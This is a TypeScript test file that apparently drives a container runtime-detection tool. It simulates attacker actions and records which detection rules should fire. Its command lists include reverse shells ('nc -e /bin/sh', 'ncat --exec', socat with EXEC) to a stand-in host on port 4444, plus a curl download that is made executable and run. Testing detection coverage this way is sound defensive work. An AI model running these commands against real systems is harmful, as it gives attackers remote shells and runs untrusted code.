/** Initial access and execution. */
import type { Action } from '../battery.ts';
import { outside } from '../scene.ts';
import { inside, onHost } from './write.ts';

const shellInside = 'Shell in a container';
const server = 'Server program starts a shell';
const dropped = 'Program that is not from the image';
const netTool = 'Launch Suspicious Network Tool in Container';

const initialAccess: readonly Action[] = [
  inside('initial-access', 'a web server starts a shell', ['/usr/bin/nginx', 'start', '/bin/sh', '-c', 'id'], { own: [server, shellInside], official: ['Run shell untrusted'] }),
  inside('initial-access', 'PHP starts a shell', ['/usr/bin/php-fpm8.2', 'start', '/bin/sh', '-c', 'id'], { own: [server, shellInside], official: [], note: 'the official list of servers has neither PHP nor Java' }),
  inside('initial-access', 'Java starts whoami without a shell', ['/usr/bin/java', 'start', '/usr/bin/whoami'], { own: ['Server program looks round'], official: [], note: 'the official rule sees shells alone' }),
  onHost('initial-access', 'a database on the host starts a shell', ['/usr/local/bin/postgres', 'start', '/bin/sh', '-c', 'id'], { own: [server], official: ['DB program spawned process', 'Run shell untrusted'] }, { prepare: 'cp "$PROGRAM" /usr/local/bin/postgres' }),
  onHost('initial-access', 'a service account gets a terminal', ['setpriv', '--reuid', '33', '--regid', '33', '--clear-groups', 'script', '--quiet', '--command', 'id', '/dev/null'], { own: ['Terminal of a service account'], official: [], note: 'the official rule asks for sshd or login among the ancestors' }, { env: { SHELL: '/bin/sh' } }),
];

const download: Action = {
  name: 'a file is downloaded, made executable and started', tactic: 'execution', where: 'container', official: ['Drop and execute new binary in container'],
  own: ['Downloaded file executed', 'File in a temporary directory made executable', dropped],
  play: async (scene) => {
    await scene.inContainer(['/usr/bin/curl', 'save', '/var/tmp/payload']);
    await scene.inContainer(['chmod', '755', '/var/tmp/payload']);
    return await scene.inContainer(['/var/tmp/payload']);
  },
};

const execution: readonly Action[] = [
  inside('execution', 'a shell by a session', ['/bin/sh', '-c', 'id'], { own: [shellInside], official: [], note: 'the official rule asks for a terminal' }),
  inside('execution', 'a shell by a session with a terminal', ['/bin/bash', '-c', 'id'], { own: [shellInside], official: ['Terminal shell in container'] }, { terminal: true }),
  inside('execution', 'a program that was written after the start', ['/tmp/tool'], { own: [dropped], official: ['Drop and execute new binary in container'] }, { prepare: 'cp /usr/bin/attack /tmp/tool' }),
  onHost('execution', 'a program in shared memory', ['/dev/shm/tool'], { own: ['Program in shared memory'], official: ['Execution from /dev/shm'] }, { prepare: 'cp "$PROGRAM" /dev/shm/tool' }),
  onHost('execution', 'the same by a symbolic link', ['/usr/local/bin/tool'], { own: ['Program in shared memory'], official: [], note: 'the official rule reads the first argument, ours the file that runs' }, { prepare: 'cp "$PROGRAM" /dev/shm/tool\nln -s /dev/shm/tool /usr/local/bin/tool' }),
  inside('execution', 'nc -e', ['/usr/bin/nc', '-e', '/bin/sh', outside, '4444'], { own: ['Netcat hands over a program'], official: ['Netcat Remote Code Execution in Container', netTool] }),
  onHost('execution', 'ncat --exec on the host', ['/usr/local/bin/ncat', '--exec', '/bin/sh', outside, '4444'], { own: ['Netcat hands over a program'], official: ['Launch Suspicious Network Tool on Host'] }, { prepare: 'cp "$PROGRAM" /usr/local/bin/ncat' }),
  inside('execution', 'socat with EXEC', ['/usr/bin/socat', `TCP:${outside}:4444`, 'EXEC:/bin/sh'], { own: ['Netcat hands over a program'], official: [netTool] }),
];

export const gettingIn: readonly Action[] = [...initialAccess, ...execution, download];
